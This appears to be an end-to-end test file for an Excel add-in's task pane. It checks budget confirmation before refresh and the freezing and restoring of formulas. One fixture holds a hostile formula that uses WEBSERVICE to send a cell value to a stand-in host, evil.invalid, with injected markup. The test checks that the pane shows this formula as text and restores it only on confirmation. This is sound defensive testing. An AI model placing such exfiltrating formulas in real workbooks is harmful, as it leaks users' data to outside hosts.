import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { chromium, type Browser, type BrowserContext, type Page } from 'playwright-core';
import { DEMO_ACCOUNTS } from '../../src/sandbox';
import { SEGMENT_IDS } from '../../src/wire';
import { buildAddin } from '../../addin/build/build';
import { holdingsWorkbook, READ_FORMULAS, writePaneStandin } from '../../fixtures/pane-standin';
import { realCatalogueIds } from '../../fixtures/issued-ids';
import { FROZEN_NAMESPACE, serializeFrozen } from '../../addin/src/taskpane/freeze-xml';
import { startStack, type Stack } from './stack';

/**
 * The task pane's own code in chromium, served by the host on a Starter account, over an
 * in-memory workbook of 1,250 SVC cells (300 assets in three currencies: 18 batch calls, plus 40
 * breakdowns and ten signals: 68 calls, 1.4% of the day's 5,000).
 */
let stack: Stack;
let dist: string;
let browser: Browser;
let pageFile: string;

const PANE_SIZE = { viewport: { width: 360, height: 1100 } };
const message = (p: Page) => p.textContent('#message');
const calculations = (p: Page) => p.evaluate(() => (window as unknown as { __paneState: { calculations: number } }).__paneState.calculations);

/** A pane in the given browser profile (one profile: the same localStorage, as Excel's WebView keeps it). */
async function openPane(profile?: BrowserContext): Promise<Page> {
  const p = await (profile ?? (await browser.newContext(PANE_SIZE))).newPage();
  await p.goto(`${stack.host.url}/${pageFile}`);
  await expect.poll(() => p.textContent('#status-tier'), { timeout: 15_000 }).toBe('starter');
  return p;
}

async function click(p: Page, id: string, until: RegExp): Promise<string> {
  await p.click(`#${id}`);
  await expect.poll(() => message(p), { timeout: 20_000 }).toMatch(until);
  return (await message(p))!;
}

beforeAll(async () => {
  dist = await mkdtemp(path.join(tmpdir(), 'svc-pane-'));
  await buildAddin({ outDir: dist });
  stack = await startStack({ tier: 'starter', host: { distDir: dist } });
  const ids = await realCatalogueIds(stack.sandboxUrl, DEMO_ACCOUNTS.find((a) => a.tier === 'enterprise')!, 300);
  pageFile = await writePaneStandin(dist, holdingsWorkbook(ids, SEGMENT_IDS));
  browser = await chromium.launch({ executablePath: '/usr/bin/chromium', args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking'] });
});

afterAll(async () => {
  await browser?.close();
  await stack?.close();
  if (dist) await rm(dist, { recursive: true, force: true });
});

describe('budget before refresh, in the pane', () => {
  it('shows the budget and refreshes at once below the threshold; asks above it, and refreshes only when confirmed', async () => {
    const profile = await browser.newContext(PANE_SIZE);
    const p = await openPane(profile);
    expect(await p.inputValue('#confirm-percent')).toBe('10');
    // Below: 1.4% of today's budget against 2%.
    await p.fill('#confirm-percent', '2');
    await click(p, 'refresh-values', /Cached values cleared/);
    expect(await p.isHidden('#budget-confirm')).toBe(true);
    expect(await calculations(p)).toBe(1);
    const lines = await p.$$eval('#budget-lines dd', (dds) => dds.map((d) => d.textContent));
    expect(lines.slice(0, 4)).toEqual(['1,250', '950', '18 (900 valuations, 50 a call)', '50']);
    expect(lines[4]).toMatch(/^about \d+ s at starter's pace \(60 calls per minute\)$/);
    expect(lines[5]).toMatch(/^1\.4% of the [\d,]+ calls left today$/);

    // Above: 1.4% against 1% — the pane asks, and nothing is refreshed until the user says so.
    await p.fill('#confirm-percent', '1');
    await click(p, 'refresh-values', /Not refreshed yet: confirm below/);
    expect(await p.isVisible('#budget-confirm')).toBe(true);
    expect(await p.textContent('#budget-question')).toMatch(/^This refresh would use 1\.4% of today's remaining budget, above your 1% threshold\. Refresh anyway\?$/);
    expect(await calculations(p)).toBe(1);
    await click(p, 'budget-cancel', /Refresh cancelled/);
    expect(await p.isHidden('#budget-confirm')).toBe(true);
    expect(await calculations(p)).toBe(1);
    await click(p, 'refresh-values', /Not refreshed yet/);
    await click(p, 'budget-go', /Cached values cleared/);
    expect(await calculations(p)).toBe(2);
    // The threshold is kept: a new pane starts from it.
    await p.close();
    const again = await openPane(profile);
    expect(await again.inputValue('#confirm-percent')).toBe('1');
    await profile.close();
  });

  it('freezes the workbook and restores every formula through the pane', async () => {
    const p = await openPane();
    const before = (await p.evaluate(READ_FORMULAS)) as Record<string, string>;
    expect(Object.keys(before)).toHaveLength(1_250);
    expect(await click(p, 'freeze', /^Froze/)).toBe('Froze 1,250 SVC formulas to values; "SVC sources" lists 1,250 frozen cells.');
    const frozen = (await p.evaluate(READ_FORMULAS)) as Record<string, string>;
    expect(Object.keys(frozen)).toEqual([]);
    expect(await p.evaluate(() => (window as unknown as { __paneState: { parts: unknown[]; sheets: { name: string }[] } }).__paneState.sheets.map((s) => s.name))).toEqual(['Holdings', 'SVC sources']);
    expect(await click(p, 'restore', /^Restored/)).toBe('Restored 1,250 SVC formulas.');
    expect(await p.evaluate(READ_FORMULAS)).toEqual(before);
    await p.close();
  });

  it("restores SVC's own formulas at once and lists any other, restoring it only when confirmed; a hostile part is refused in words", async () => {
    const p = await openPane();
    const base = { sheet: 'Holdings', column: 1, rows: 1, columns: 1, formats: [['General']], currency: 'USD', assetId: 'X', asOf: '2026-11-26T00:00:00.000Z' };
    const own = { ...base, row: 400, formula: '=SVC.MIDVALUE(A401)', value: 7 };
    const foreign = { ...base, row: 401, formula: '=SVC.MIDVALUE(A402)&WEBSERVICE("https://evil.invalid/?<b>x</b>"&A402)', value: 8 };
    const install = (xml: string) =>
      p.evaluate((x) => {
        const state = (window as unknown as { __paneState: { addPart(xml: string): void; sheets: { set(r: number, c: number, v: object): void }[] } }).__paneState;
        state.sheets[0]!.set(400, 1, { value: 7 });
        state.sheets[0]!.set(401, 1, { value: 8 });
        state.addPart(x);
      }, xml);
    const formulaAt = (row: number) => p.evaluate((r) => (window as unknown as { __paneState: { sheets: { get(r: number, c: number): { formula: string | null } }[] } }).__paneState.sheets[0]!.get(r, 1).formula, row);
    await install(serializeFrozen([own, foreign], new Date()));

    expect(await click(p, 'restore', /^Restored/)).toBe("Restored 1 SVC formula. 1 formula is not SVC's own: confirm below to restore it.");
    expect(await formulaAt(400)).toBe(own.formula);
    expect(await formulaAt(401)).toBeNull();
    expect(await p.isVisible('#restore-confirm')).toBe(true);
    // Listed as text, never as markup.
    expect(await p.$$eval('#restore-others li', (lis) => lis.map((li) => li.textContent))).toEqual([`Holdings!B402 (WEBSERVICE): ${foreign.formula}`]);
    expect(await p.$$eval('#restore-others b', (bs) => bs.length)).toBe(0);

    expect(await click(p, 'restore-keep', /^Left/)).toBe('Left 1 formula as values; "SVC sources" still lists it.');
    expect(await p.isHidden('#restore-confirm')).toBe(true);
    expect(await formulaAt(401)).toBeNull();

    expect(await click(p, 'restore', /^Restored/)).toBe("Restored 0 SVC formulas. 1 formula is not SVC's own: confirm below to restore it.");
    expect(await click(p, 'restore-go', /^Restored/)).toBe('Restored 1 formula you confirmed.');
    expect(await formulaAt(401)).toBe(foreign.formula);
    expect(await p.isHidden('#restore-confirm')).toBe(true);

    // A part declaring every cell of a sheet: refused with the reason, nothing written.
    await install(`<frozen xmlns="${FROZEN_NAMESPACE}" version="1"><cell sheet="Holdings" row="0" column="0" rows="1048576" columns="16384" type="number" value="7"><formula>=SVC.MIDVALUE(A1)</formula></cell></frozen>`);
    expect(await click(p, 'restore', /frozen-formula part/)).toMatch(/declares a block of 1,048,576 × 16,384 cells/);
    await p.close();
  });
});
